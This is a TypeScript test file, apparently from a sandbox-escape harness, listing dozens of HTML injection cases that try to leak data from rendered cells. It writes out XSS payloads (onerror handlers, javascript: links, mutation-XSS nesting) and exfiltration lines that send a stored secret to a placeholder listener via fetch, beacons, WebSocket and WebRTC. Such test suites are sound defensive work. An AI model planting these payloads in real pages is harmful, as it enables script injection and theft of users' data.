import { cell, type Attack, type Ears } from "../attack";

/** Markup that a cell gives back as its result: heard where it is put into the page as it is. */
const gives = (
  name: string,
  way: string,
  markup: (ears: Ears) => string,
  more: Partial<Attack> = {},
): Attack => ({
  name,
  door: "html",
  way,
  without: ["sanitiser", "page policy"],
  plant: (ears) => ({
    cells: cell(
      "ts",
      name,
      `return html([${JSON.stringify(markup(ears))}] as unknown as TemplateStringsArray);`,
    ),
  }),
  ...more,
});

const press = { press: true } as const;
const code = (http: string) => `fetch('${http}/x')`;

export default [
  gives("html-img", "image", ({ http }) => `<img src="${http}/x.png">`),
  gives("html-img-own", "same origin, with a query", ({ own }) => `<img src="${own}">`),
  gives("html-img-set", "image", ({ http }) => `<img srcset="${http}/x.png 1x, ${http}/y.png 2x">`),
  gives("html-img-lazy", "image", ({ http }) => `<img loading="lazy" src="${http}/x.png">`),
  gives(
    "html-source",
    "image",
    ({ http }) => `<picture><source srcset="${http}/x.png"><img src="data:,"></picture>`,
  ),
  gives("html-input", "image", ({ http }) => `<input type="image" src="${http}/x.png">`),
  gives("html-table", "image", ({ http }) => `<table background="${http}/x.png"><tr><td>a</td></tr></table>`),
  gives(
    "html-svg-image",
    "image",
    ({ http }) => `<svg><image href="${http}/x.png" width="9" height="9"/></svg>`,
  ),
  gives(
    "html-svg-image-old",
    "image",
    ({ http }) => `<svg><image xlink:href="${http}/x.png" width="9" height="9"/></svg>`,
  ),
  gives(
    "html-svg-filter",
    "image",
    ({ http }) =>
      `<svg><filter id="h"><feImage href="${http}/x.png"/></filter><rect width="9" height="9" filter="url(#h)"/></svg>`,
  ),
  gives(
    "html-svg-mask",
    "style",
    ({ http }) => `<svg><rect width="9" height="9" style="mask-image: url('${http}/x.svg')"/></svg>`,
  ),
  gives("html-svg-style", "style", ({ http }) => `<svg><style>@import "${http}/x.css";</style></svg>`),
  gives(
    "html-svg-foreign",
    "image",
    ({ http }) => `<svg><foreignObject width="9" height="9"><img src="${http}/x.png"></foreignObject></svg>`,
  ),
  gives("html-poster", "media", ({ http }) => `<video poster="${http}/x.png"></video>`),
  gives("html-audio", "media", ({ http }) => `<audio src="${http}/x.mp3" preload="auto"></audio>`),
  gives("html-script", "script", ({ http }) => `<script>${code(http)}</script>`),
  gives("html-script-file", "script", ({ http }) => `<script src="${http}/x.js"></script>`),
  gives("html-onerror", "fetch", ({ http }) => `<img src=x onerror="${code(http)}">`),
  gives(
    "html-ontoggle",
    "fetch",
    ({ http }) => `<details open ontoggle="${code(http)}"><summary>a</summary></details>`,
  ),
  gives(
    "html-animation",
    "fetch",
    ({ http }) => `<svg><animate attributeName="x" dur="1s" onbegin="${code(http)}"/></svg>`,
  ),
  gives(
    "html-nesting",
    "fetch",
    ({ http }) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code(http)}&gt;"></table></mtext></math><img src=x onerror="${code(http)}">`,
  ),
  gives("html-websocket", "WebSocket", ({ ws }) => `<img src=x onerror="new WebSocket('${ws}')">`),
  gives(
    "html-beacon",
    "beacon",
    ({ http }) => `<img src=x onerror="navigator.sendBeacon('${http}/x', 'zoe')">`,
  ),
  gives(
    "html-rtc",
    "WebRTC",
    ({ port }) =>
      `<img src=x onerror="(async () => { const a = window.kept = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${port}' }] }); a.createDataChannel('x'); await a.setLocalDescription() })()">`,
    { port: true },
  ),
  gives(
    "html-storage",
    "storage",
    ({ http }) => `<img src=x onerror="fetch('${http}/' + localStorage.getItem('secret'))">`,
  ),
  gives("html-window", "window", ({ http }) => `<img src=x onerror="window.open('${http}/x')">`),
  gives("html-frame", "frame", ({ http }) => `<iframe src="${http}/x"></iframe>`),
  gives("html-frame-srcdoc", "frame", ({ http }) => `<iframe srcdoc="<img src='${http}/x.png'>"></iframe>`),
  gives("html-object", "frame", ({ http }) => `<object data="${http}/x"></object>`),
  gives("html-embed", "frame", ({ http }) => `<embed src="${http}/x">`),
  gives("html-style", "style", ({ http }) => `<style>@import url("${http}/x.css");</style>`),
  gives("html-style-file", "style", ({ http }) => `<link rel="stylesheet" href="${http}/x.css">`),
  gives("html-style-inline", "style", ({ http }) => `<p style="background: url('${http}/x.png')">a</p>`),
  gives("html-style-escaped", "style", ({ http }) => `<p style="background: \\75 rl('${http}/x.png')">a</p>`),
  gives(
    "html-style-page",
    "style",
    ({ http }) =>
      `<style>main { --x: 1; list-style: url("${http}/x.png") } main p { display: list-item }</style><p>a</p>`,
  ),
  gives(
    "html-font",
    "font",
    ({ http }) =>
      `<style>@font-face { font-family: g; src: url("${http}/x.woff2") }</style><p style="font-family: g">a</p>`,
  ),
  gives("html-prefetch", "prefetch", ({ http }) => `<link rel="prefetch" href="${http}/x">`),
  gives("html-preload", "prefetch", ({ http }) => `<link rel="preload" as="image" href="${http}/x.png">`),
  gives("html-module-preload", "prefetch", ({ http }) => `<link rel="modulepreload" href="${http}/x.js">`),
  gives("html-refresh", "navigation", ({ http }) => `<meta http-equiv="refresh" content="0;url=${http}/x">`, {
    alone: true,
  }),
  gives(
    "html-form",
    "form",
    ({ http }) =>
      `<iframe name="inner"></iframe><form action="${http}/x" target="inner"><button>html-form</button></form>`,
    press,
  ),
  gives("html-ping", "ping", ({ http }) => `<a href="#secrets" ping="${http}/x">html-ping</a>`, {
    ...press,
    without: ["sanitiser", "page policy", "asked links"],
  }),
  gives(
    "html-download",
    "download",
    ({ secret }) => `<a href="data:text/csv,${secret}" download="html-download.csv">html-download</a>`,
    { ...press, without: ["sanitiser", "page policy", "asked links"] },
  ),
  gives(
    "html-link-script",
    "script",
    ({ http }) => `<a href="javascript:${code(http)}">html-link-script</a>`,
    {
      ...press,
      without: ["sanitiser", "page policy", "asked links"],
    },
  ),
  gives(
    "html-link-svg",
    "script",
    ({ http }) => `<svg><a href="javascript:${code(http)}"><text y="9">html-link-svg</text></a></svg>`,
    { ...press, without: ["sanitiser", "page policy", "asked links"] },
  ),
  gives(
    "html-link",
    "navigation",
    ({ http, secret }) => `<a href="${http}/${secret}">Sort by html-link</a>`,
    { ...press, without: ["asked links"], alone: true },
  ),
] satisfies Attack[];
